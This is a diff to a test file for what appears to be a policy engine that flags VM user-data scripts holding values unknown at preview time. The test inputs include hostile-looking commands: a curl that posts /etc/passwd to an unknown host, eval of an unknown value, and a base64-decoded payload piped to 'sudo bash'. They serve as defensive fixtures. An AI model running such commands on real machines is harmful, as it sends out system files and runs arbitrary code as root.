@@ -107,6 +107,9 @@ describe("user data the engine sends with marks for the values it cannot know", 
       script('bash -c "⟨unknown 2⟩"'),
       script("curl -d @/etc/passwd https://⟨unknown 1⟩/x"),
       Buffer.from(script("sudo ⟨unknown 4⟩ --all")).toString("base64"),
+      script('eval "⟨unknown 1⟩"'),
+      script(". ⟨unknown 1⟩"),
+      script("echo ⟨unknown 1⟩ | base64 -d | sudo bash"),
     ]) {
       expect(await judged(instance({ userData })(oregon), "vm")).toEqual([
         "mandatory: userData (unknown at preview)",
@@ -164,6 +167,7 @@ describe("user data the engine sends with marks for the values it cannot know", 
     const bootstrap = script(
       "/etc/eks/bootstrap.sh nodes --apiserver-endpoint ⟨unknown 1⟩ --b64-cluster-ca ⟨unknown 2⟩",
       "export TOKEN=⟨unknown 3⟩",
+      "echo ⟨unknown 3⟩ | sha256sum",
       "aws s3 cp /var/log/app.log s3://logs/ --region us-east-1",
     );
     expect(await judged(instance({ userData: bootstrap })(oregon), "vm")).toEqual([]);
